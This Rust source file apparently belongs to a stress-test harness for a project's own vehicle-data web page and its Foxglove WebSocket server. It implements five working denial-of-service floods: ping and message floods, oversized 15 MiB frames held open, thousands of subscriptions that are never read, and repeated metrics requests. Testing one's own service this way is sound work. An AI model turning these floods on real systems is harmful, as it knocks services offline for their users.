//! What no browser sends to the page or Foxglove's WebSocket: frames without pause, frames that are too long, requests
//! without pause, many subscriptions that are never read.

use std::net::SocketAddr;
use std::time::Duration;

use futures::FutureExt;
use futures::future::select;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::target::{Attack, connect};
use crate::attack::websocket::{PING, TEXT, masked};

/// Pause before a connection that was cut is opened again.
const AGAIN: Duration = Duration::from_millis(20);
const UPGRADE: &[u8] = b"GET /live HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
    Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n";
const FOXGLOVE: &[u8] = b"GET / HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
    Sec-WebSocket-Version: 13\r\nSec-WebSocket-Protocol: foxglove.sdk.v1\r\n\
    Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n";
/// Channels of one vehicle, and subscriptions of one client, as many as are allowed.
const CHANNELS: u32 = 10;
const SUBSCRIPTIONS: u32 = 256;
const SELECTION: &str = r#"{"type":"watch","vehicle":"car","layers":["speed"]}"#;

/// The attacks of this file.
pub const ATTACKS: &[Attack] = &[
    Attack { name: "page: flood of WebSocket pings", run: |target| flood(target.page, UPGRADE, pings()).boxed() },
    Attack { name: "page: flood of selections", run: |target| flood(target.page, UPGRADE, selections()).boxed() },
    Attack {
        name: "Foxglove: 5,120 subscriptions that never read",
        run: |target| subscriptions(target.foxglove).boxed(),
    },
    Attack { name: "page: WebSocket frames of 15 MiB", run: |target| long_frames(target.page).boxed() },
    Attack {
        name: "page: flood of requests for the metrics",
        run: |target| flood(target.page, b"", b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n".repeat(100)).boxed(),
    },
];

fn pings() -> Vec<u8> {
    masked(PING, &[7; 125]).repeat(100)
}

fn selections() -> Vec<u8> {
    masked(TEXT, SELECTION.as_bytes()).repeat(100)
}

/// Sends a beginning and then this without pause, on one connection after another, and reads all answers.
async fn flood(at: SocketAddr, begin: &'static [u8], bytes: Vec<u8>) {
    loop {
        if let Ok(mut socket) = connect(at).await {
            let _cut = socket.write_all(begin).await;
            let (mut read, mut write) = socket.into_split();
            let send = async { while write.write_all(&bytes).await.is_ok() {} };
            let receive = async {
                let mut rest = vec![0; 1 << 16];
                while read.read(&mut rest).await.is_ok_and(|length| length > 0) {}
            };
            select(std::pin::pin!(send), std::pin::pin!(receive)).await;
        }
        tokio::time::sleep(AGAIN).await;
    }
}

/// Sends all but the last byte of a frame of 15 MiB on as many connections as an address may have.
async fn long_frames(at: SocketAddr) {
    const BYTES: usize = 15 << 20;
    let head = [&[0x82, 0xff][..], &(BYTES as u64).to_be_bytes(), &[0; 4]].concat();
    let piece = vec![0; 1 << 16];
    let send = |_| async {
        loop {
            if let Ok(mut socket) = connect(at).await {
                let mut sent = socket.write_all(UPGRADE).await.is_ok() && socket.write_all(&head).await.is_ok();
                let mut left = BYTES - 1;
                while sent && left > 0 {
                    let length = left.min(piece.len());
                    sent = socket.write_all(&piece[..length]).await.is_ok();
                    left -= length;
                }
                let _cut = socket.ready(tokio::io::Interest::ERROR).await;
            }
            tokio::time::sleep(AGAIN).await;
        }
    };
    futures::future::join_all((0..64).map(send)).await;
}

/// Subscribes 20 clients as often as each may, to all channels, and reads nothing.
async fn subscriptions(at: SocketAddr) {
    let wanted = (0..SUBSCRIPTIONS).flat_map(|id| {
        let channel = id % CHANNELS + 1;
        let wanted = format!(r#"{{"op":"subscribe","subscriptions":[{{"id":{id},"channelId":{channel}}}]}}"#);
        masked(TEXT, wanted.as_bytes())
    });
    let bytes = [FOXGLOVE, &wanted.collect::<Vec<_>>()].concat();
    let hold = |_| async {
        loop {
            if let Ok(mut socket) = connect(at).await
                && socket.write_all(&bytes).await.is_ok()
            {
                let _cut = socket.ready(tokio::io::Interest::ERROR).await;
            }
            tokio::time::sleep(AGAIN).await;
        }
    };
    futures::future::join_all((0..20).map(hold)).await;
}
